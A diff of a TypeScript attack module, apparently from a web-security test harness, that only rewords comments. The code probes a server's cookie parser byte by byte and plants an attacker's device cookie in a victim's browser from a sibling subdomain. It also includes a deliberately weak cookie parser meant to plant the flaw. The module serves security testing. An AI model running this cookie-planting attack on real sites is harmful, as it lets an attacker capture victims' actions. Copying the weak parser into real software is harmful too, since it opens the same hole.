@@ -9,16 +9,19 @@ import type { Answer } from '../wire/answers.ts';
 import { ask, askApi, askInRow, inTurns, type Question } from '../wire/ask.ts';
 
 const BYTES = Array.from({ length: 256 }, (_, byte) => byte);
-/** Those that some reader has taken for a blank come first. */
+/** Bytes that some cookie parser has treated as white space come first. */
 const LIKELY_FIRST = [...new Set([0xa0, 0x0b, 0x0c, 0x1c, 0x85, ...BYTES])];
 const AT_ONCE = 24;
-/** A device may ask for its list sixty times a minute. */
+/** A device may request its list sixty times a minute. */
 const BYTES_PER_DEVICE = 4;
-/** Three places of each: a browser keeps 180 cookies of a domain. */
+/** Each byte is planted in three places, and a browser stores at most 180 cookies of a domain. */
 const BYTES_PER_BROWSER = 32;
 const BROWSER_LOTS = [0xa0, 0x00, 0x20, 0x40, 0x60, 0x80, 0xc0, 0xe0] as const;
 const BROWSERS_AT_ONCE = 4;
-/** Blanks and tabs round a name are the header's own; no browser keeps a cookie with them. A semicolon ends what is before it. */
+/**
+ * Spaces and tabs around a name belong to the header's syntax, and browsers store no cookie with them. A semicolon ends the
+ * cookie before it.
+ */
 const NO_PART_OF_A_NAME = new Set([0x09, 0x20, 0x3b]);
 
 const PLACES = {
@@ -37,7 +40,7 @@ async function newDevice(target: Target): Promise<string> {
   return target.secrets.add("a device's cookie", value);
 }
 
-/** A device that can be told from every other by what it has: one recipient in its list. */
+/** A device with one recipient in its list, by which it can be recognised. */
 async function newAttacker(target: Target): Promise<string> {
   const device = await newDevice(target);
   const now = new Date();
@@ -54,13 +57,13 @@ const listWith = (cookies: string): Question => ({
   headers: { Cookie: cookies },
 });
 
-/** By the list of whoever the server takes this visitor for. */
+/** Whether the server took the request for the attacker's device: only the attacker's list has a recipient. */
 function isAttackers(answer: Answer | null): boolean {
   if (answer?.status === 429) throw new Error('a device has asked too often to tell whose it is');
   return answer?.status === 200 && hasRecipients(answer.body);
 }
 
-/** In a row while the server takes it; a byte that ends the connection is tried once more by itself. */
+/** Sends the requests on one connection. If a byte makes the server close it, each request is sent again on its own connection. */
 async function areAttackers(target: Target, headers: readonly string[]): Promise<boolean[]> {
   const answers = await askInRow(target, headers.map(listWith));
   if (answers.length === headers.length) return answers.map(isAttackers);
@@ -115,22 +118,22 @@ async function* byProgram(target: Target): AsyncGenerator<Probe> {
   for await (const probes of inTurns(LIKELY_FIRST, AT_ONCE, work)) yield* probes;
 }
 
-/** Calls by a script of our page, with what the browser sends along. */
+/** Length of the list that a script of our page receives, with the cookies the browser sends along. */
 function listLength(page: Page): Promise<number> {
   return page.evaluate(async (path) => {
-    // What the browser sends along may be refused as no request.
+    // A planted cookie may make the server refuse the request.
     const answer = await fetch(path).catch(() => null);
     if (answer?.status !== 200) return 0;
     return ((await answer.json()) as { data: { list: unknown[] } }).data.list.length;
   }, listRecipientHistory.path);
 }
 
-/** Runs in the neighbour's page. What a byte makes of the answer may be no answer. */
+/** Runs in the neighbour's page. A planted byte may make the answer unreadable. */
 async function fetchAll(paths: readonly string[]): Promise<void> {
   for (const path of paths) await fetch(path).catch(() => null);
 }
 
-/** The neighbour answers with cookies for the domain of both, and for the very paths of our calls. */
+/** The neighbour sets cookies for the shared parent domain, including the exact paths of our calls. */
 async function tryInBrowser(target: Target, from: number): Promise<Probe[]> {
   const { stranger, host } = target;
   const path = new URL(listRecipientHistory.path, 'https://x').pathname;
@@ -162,7 +165,7 @@ async function tryInBrowser(target: Target, from: number): Promise<Probe[]> {
   return probes;
 }
 
-/** The likeliest bytes by themselves, so that a planted weakness is found by one browser. */
+/** The most likely bytes get a browser of their own, so that a planted weakness is found by the first one. */
 async function* byBrowser(target: Target): AsyncGenerator<Probe> {
   const [first, ...others] = BROWSER_LOTS;
   yield* await tryInBrowser(target, first);
@@ -170,14 +173,14 @@ async function* byBrowser(target: Target): AsyncGenerator<Probe> {
   for await (const probes of inTurns(others, BROWSERS_AT_ONCE, work)) yield* probes;
 }
 
-/** As it was read once: of all that begin with the name, blanks of every kind taken away, the first. */
+/** The weakness of an earlier cookie parser: trims all kinds of white space and takes the first pair with the name. */
 function firstTrimmed(headers: Record<string, string | string[] | undefined>): void {
   const pairs = String(headers['cookie'] ?? '').split(';');
   const found = pairs.find((pair) => pair.trimStart().startsWith(`${SECURE_NAME}=`))?.trim();
   if (found !== undefined) headers['cookie'] = found;
 }
 
-/** The attacker's own device in somebody else's browser: what the victim then does belongs to the attacker. */
+/** Plants the attacker's device cookie in a victim's browser, so that the victim's actions would belong to the attacker. */
 export const plantedCookies: Attack = {
   name: 'device cookies, every byte round the name',
   tool: 'wire',
